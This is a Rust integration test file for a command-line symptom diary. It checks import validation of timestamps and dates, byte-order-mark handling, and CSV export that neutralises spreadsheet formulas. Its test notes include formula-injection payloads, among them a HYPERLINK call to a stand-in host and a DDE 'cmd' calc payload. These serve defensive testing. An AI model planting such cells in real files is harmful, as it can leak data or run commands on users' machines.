//! What an import must not let in, and what CSV must not let a spreadsheet do: change times in
//! the future (a phone with a wrong clock would win every later merge) or before their own
//! creation, dates before 1900; a JSON file with a byte-order mark is still JSON; CSV cells a
//! spreadsheet would run as formulas are written as text, and come back exactly.

use crate::support::cli as common;

use std::fs;
use std::path::Path;

use common::{Env, assert_refused, find, stdout};
use serde_json::{Value, json};

/// A diary with a twitch, a cramp, a medication and a self-check, exported as JSON.
fn exported() -> (Env, Value) {
    let env = Env::new();
    env.log(&[
        "twitch",
        "--site",
        "eyelid:left",
        "--at",
        "2026-11-20 08:00",
    ]);
    env.log(&["cramp", "--site", "calf:right", "--at", "2026-11-22 03:10"]);
    env.ok(&[
        "med",
        "add",
        "salbutamol",
        "--class",
        "beta-2-agonist",
        "--start",
        "2026-09-01",
    ]);
    env.ok(&["selfcheck", "--date", "2026-11-21", "--jar", "ok"]);
    let file = env.path("export.json");
    env.ok(&["export", "--format", "json", "-o", file.to_str().unwrap()]);
    let doc = serde_json::from_slice(&fs::read(&file).unwrap()).unwrap();
    (env, doc)
}

/// Imports `doc` into a new diary beside `env`'s; returns the refusal line, with nothing
/// created.
fn import_refused(env: &Env, name: &str, doc: &Value, names: &str) -> String {
    let file = env.path(name);
    fs::write(&file, serde_json::to_vec_pretty(doc).unwrap()).unwrap();
    let other = env.path(&format!("{name}.sqlite3"));
    let out = env
        .command()
        .env("MYOLOG_DB", &other)
        .args(["import", file.to_str().unwrap()])
        .output()
        .unwrap();
    let line = assert_refused(&out, names);
    assert!(!other.exists(), "{name}: a diary was started");
    line
}

#[test]
fn an_import_with_a_change_time_in_the_future_is_refused_naming_the_record() {
    let (env, doc) = exported();
    let cases: [(&[(&str, &str)], &str); 6] = [
        (
            &[("/episodes/1/updated", "2099-01-01T00:00:00Z")],
            "episodes[1]: updated 2099-01-01T00:00:00Z is in the future",
        ),
        (
            &[
                ("/episodes/0/created", "2027-01-01T00:00:00Z"),
                ("/episodes/0/updated", "2027-01-01T00:00:00Z"),
            ],
            "episodes[0]: created 2027-01-01T00:00:00Z is in the future",
        ),
        (
            &[("/medications/0/updated", "2026-11-25T10:30:00Z")],
            "medications[0]: updated 2026-11-25T10:30:00Z is in the future",
        ),
        (
            &[("/self_checks/0/created", "2030-06-01T00:00:00Z")],
            "self_checks[0]: created 2030-06-01T00:00:00Z is in the future",
        ),
        (
            &[
                ("/episodes/0/created", "2026-11-20T09:00:00Z"),
                ("/episodes/0/updated", "2026-11-19T00:00:00Z"),
            ],
            "episodes[0]: updated 2026-11-19T00:00:00Z is before created 2026-11-20T09:00:00Z",
        ),
        (
            &[("/episodes/0/start", "1899-12-31T23:00:00+00:00")],
            "episodes[0]: start 1899-12-31 is before 1900",
        ),
    ];
    for (i, (changes, says)) in cases.into_iter().enumerate() {
        let mut bad = doc.clone();
        for (pointer, value) in changes {
            *bad.pointer_mut(pointer).unwrap() = json!(value);
        }
        let line = import_refused(&env, &format!("bad-{i}.json"), &bad, says);
        assert!(line.contains(says), "{line}");
    }

    // Into the diary it came from: the diary stays as it was, byte for byte.
    let mut bad = doc.clone();
    *bad.pointer_mut("/episodes/1/updated").unwrap() = json!("2099-01-01T00:00:00Z");
    let file = env.path("phone.json");
    fs::write(&file, serde_json::to_vec(&bad).unwrap()).unwrap();
    let before = fs::read(&env.db).unwrap();
    assert_refused(&env.run(&["import", file.to_str().unwrap()]), "episodes[1]");
    assert_eq!(fs::read(&env.db).unwrap(), before);

    // A clock a few minutes fast is no reason to refuse: the slack is 5 minutes.
    let mut close = doc.clone();
    *close.pointer_mut("/episodes/1/updated").unwrap() = json!("2026-11-25T10:19:00Z");
    fs::write(&file, serde_json::to_vec(&close).unwrap()).unwrap();
    env.ok(&["import", file.to_str().unwrap()]);
}

#[test]
fn a_csv_row_with_a_change_time_in_the_future_is_refused_naming_its_line() {
    let env = Env::new();
    let file = env.path("rows.csv");
    fs::write(
        &file,
        "kind,start,sites,created,updated\n\
         twitch,2026-11-21T09:00:00+00:00,calf,2026-11-21T09:00:00Z,2026-11-21T09:00:00Z\n\
         twitch,2026-11-21T10:00:00+00:00,calf,2026-11-21T10:00:00Z,2099-01-01T00:00:00Z\n",
    )
    .unwrap();
    let line = assert_refused(&env.run(&["import", file.to_str().unwrap()]), "line 3");
    assert!(
        line.contains("line 3: updated 2099-01-01T00:00:00Z is in the future"),
        "{line}"
    );
    assert!(!env.db.exists());
}

#[test]
fn a_json_export_with_a_byte_order_mark_imports() {
    let (env, doc) = exported();
    let file = env.path("bom.json");
    let mut bytes = "\u{feff}".as_bytes().to_vec();
    bytes.extend(serde_json::to_vec_pretty(&doc).unwrap());
    fs::write(&file, bytes).unwrap();
    let other = env.path("other.sqlite3");
    let out = env
        .command()
        .env("MYOLOG_DB", &other)
        .args(["import", file.to_str().unwrap()])
        .output()
        .unwrap();
    common::assert_ok(&out, &["import", "bom.json"]);
    assert!(
        stdout(&out).contains("added 2 episodes, 1 medication, 1 self-check"),
        "{}",
        stdout(&out)
    );
}

/// Notes a spreadsheet would run, or that start with the mark that says "text", and ordinary
/// ones: each must come back exactly.
const NOTES: [&str; 10] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2 degrees and falling",
    "@SUM(1+1)",
    "\tstarts with a tab",
    "\rstarts with a carriage return",
    "'tis the season",
    "''two marks",
    "plain, with a comma",
    "ends with =1+1",
];

fn cells(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn never_a_formula(file: &Path) {
    let text = fs::read_to_string(file).unwrap();
    for row in cells(&text) {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{}: a spreadsheet would run {cell:?}",
                file.display()
            );
        }
    }
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_written_as_text_and_import_takes_the_mark_off() {
    let env = Env::new();
    let mut ids = Vec::new();
    for (i, note) in NOTES.iter().enumerate() {
        let at = format!("2026-11-2{} 0{}:00", i % 5, 1 + i % 8);
        ids.push(env.log(&["twitch", "--site", "calf", "--at", &at, "--note", note]));
    }
    env.ok(&["checkin", "--date", "2026-11-24", "--note", "=1+1"]);
    env.ok(&[
        "med",
        "add",
        "=cmd",
        "--class",
        "other",
        "--dose",
        "-1 tablet, @night",
    ]);
    let folder = env.path("csv");
    env.ok(&[
        "export",
        "--format",
        "csv",
        "-o",
        &format!("{}/", folder.display()),
    ]);
    for table in ["episodes", "checkins", "medications", "self_checks"] {
        never_a_formula(&folder.join(format!("{table}.csv")));
    }
    let episodes = fs::read_to_string(folder.join("episodes.csv")).unwrap();
    let rows = cells(&episodes);
    let note_at = rows[0].iter().position(|c| c == "note").unwrap();
    let written: Vec<&str> = rows[1..].iter().map(|r| r[note_at].as_str()).collect();
    assert!(written.contains(&"'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"));
    assert!(written.contains(&"'''two marks"), "{written:?}");
    assert!(written.contains(&"plain, with a comma"), "{written:?}");

    // myolog's own import gives every note back exactly.
    let other = env.path("other.sqlite3");
    let out = env
        .command()
        .env("MYOLOG_DB", &other)
        .args(["import", folder.join("episodes.csv").to_str().unwrap()])
        .output()
        .unwrap();
    common::assert_ok(&out, &["import", "episodes.csv"]);
    let listed = env
        .command()
        .env("MYOLOG_DB", &other)
        .args(["list", "--json"])
        .output()
        .unwrap();
    let back: Vec<Value> = serde_json::from_slice(&listed.stdout).unwrap();
    for (id, note) in ids.iter().zip(NOTES) {
        assert_eq!(find(&back, id)["note"], note, "{note:?}");
    }
}

#[test]
fn csv_to_one_file_says_it_wrote_the_episodes_only() {
    let env = Env::new();
    env.log(&["twitch", "--site", "calf"]);
    env.ok(&["checkin", "--sleep", "7"]);
    let file = env.path("one.csv");
    let said = env.ok(&["export", "--format", "csv", "-o", file.to_str().unwrap()]);
    assert!(said.starts_with("Exported 1 episode as csv to"), "{said}");
    assert!(said.contains("the episodes table only"), "{said}");
    assert!(!said.contains("1 check-in"), "{said}");
    assert_eq!(fs::read_dir(env.dir.path()).unwrap().count(), 2, "one file");
    // To a folder: the five tables, and it says so.
    let folder = env.path("all/");
    let said = env.ok(&["export", "--format", "csv", "-o", folder.to_str().unwrap()]);
    assert!(
        said.contains("1 episode, 1 check-in, 0 medications, 0 self-checks and 0 experiments"),
        "{said}"
    );
}
